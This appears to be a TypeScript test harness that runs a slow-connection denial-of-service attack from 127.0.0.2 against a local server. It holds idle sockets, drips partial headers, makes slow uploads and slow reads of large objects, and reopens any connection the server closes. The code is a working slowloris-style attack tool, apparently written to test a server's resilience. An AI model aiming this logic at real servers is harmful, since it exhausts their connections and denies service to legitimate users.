import { connect, type Socket } from 'node:net';

/** All of 127.0.0.0/8 is this machine, so that this one can attack while 127.0.0.1 is somebody else. */
export const ATTACKER = '127.0.0.2';

export interface Attack {
  port: number;
  /** Connections that send nothing. */
  idle: number;
  /** Those that send or read a little at a time: heads, and bodies of the URLs, in turn. */
  trickling: number;
  /** Signed for `UPLOAD_BYTES` of video/mp4. */
  putUrls?: string[];
  /** Of objects that are larger than what the kernel buffers for a client that does not read. */
  getUrls?: string[];
}

export interface Attacker {
  /** Connections that were opened, those of them that were ended by the other side, and those that are open. */
  counts(): { opened: number; ended: number; open: number };
  end(): void;
}

export const UPLOAD_BYTES = 10_000_000;
const BATCH = 200;
/** Connections that are opened again each tick: measurements must not show the attacker's own work. */
const AGAIN = 50;
const TICK_MS = 100;
const TRICKLE_MS = 500;
/** A little more than the least rate of the storage, 1000 bytes a second. */
const TRICKLE_BYTES = 600;

/** How one connection begins, and what it does at each trickle. */
interface Manner {
  hello: string;
  trickle?: (socket: Socket) => void;
  isReader?: boolean;
}

/**
 * Opens all connections that a port allows for one address, and reconnects when one is ended. Resolves when each
 * connection was tried once.
 */
export async function attack(target: Attack): Promise<Attacker> {
  const open = new Map<Socket, Manner>();
  const lost: Manner[] = [];
  const counts = { opened: 0, ended: 0 };
  let over = false;
  const start = (manner: Manner) =>
    new Promise<void>((resolve) => {
      const socket = connect({ port: target.port, host: '127.0.0.1', localAddress: ATTACKER });
      socket.on('error', () => undefined);
      socket.once('connect', () => {
        counts.opened++;
        open.set(socket, manner);
        if (manner.hello) socket.write(manner.hello);
        resolve();
      });
      // A download reads at each trickle alone. A paused socket does not notice its end, so the others read.
      if (!manner.isReader) socket.resume();
      socket.once('close', () => {
        if (open.delete(socket)) counts.ended++;
        if (!over) lost.push(manner);
        resolve();
      });
    });

  const manners = mannersOf(target);
  for (let at = 0; at < manners.length; at += BATCH) await Promise.all(manners.slice(at, at + BATCH).map(start));
  const again = setInterval(() => lost.splice(0, AGAIN).map(start), TICK_MS);
  const trickle = setInterval(() => {
    for (const [socket, manner] of open) manner.trickle?.(socket);
  }, TRICKLE_MS);
  return {
    counts: () => ({ ...counts, open: open.size }),
    end() {
      over = true;
      clearInterval(again);
      clearInterval(trickle);
      for (const socket of open.keys()) socket.destroy();
    },
  };
}

/** The trickling ones first: they stay, and what is idle is refused. */
function mannersOf({ idle, trickling, putUrls = [], getUrls = [] }: Attack): Manner[] {
  const kinds: ((index: number) => Manner)[] = [
    () => ({ hello: 'GET / HTTP/1.1\r\nx-slow: ', trickle: (socket) => socket.write('y') }),
  ];
  if (putUrls.length > 0) {
    const body = 'x'.repeat(TRICKLE_BYTES);
    const rest = `content-type: video/mp4\r\ncontent-length: ${UPLOAD_BYTES}`;
    kinds.push((index) => ({
      hello: headOf('PUT', putUrls[index % putUrls.length]!, rest),
      trickle: (socket) => socket.write(body),
    }));
  }
  if (getUrls.length > 0) {
    kinds.push((index) => ({
      hello: headOf('GET', getUrls[index % getUrls.length]!, 'x-slow: y'),
      trickle: (socket) => socket.read(TRICKLE_BYTES),
      isReader: true,
    }));
  }
  const slow = Array.from({ length: trickling }, (_, index) =>
    kinds[index % kinds.length]!(Math.floor(index / kinds.length)),
  );
  return [...slow, ...Array<Manner>(idle).fill({ hello: '' })];
}

function headOf(method: string, signed: string, rest: string): string {
  const { pathname, search, host } = new URL(signed);
  return `${method} ${pathname}${search} HTTP/1.1\r\nhost: ${host}\r\n${rest}\r\n\r\n`;
}
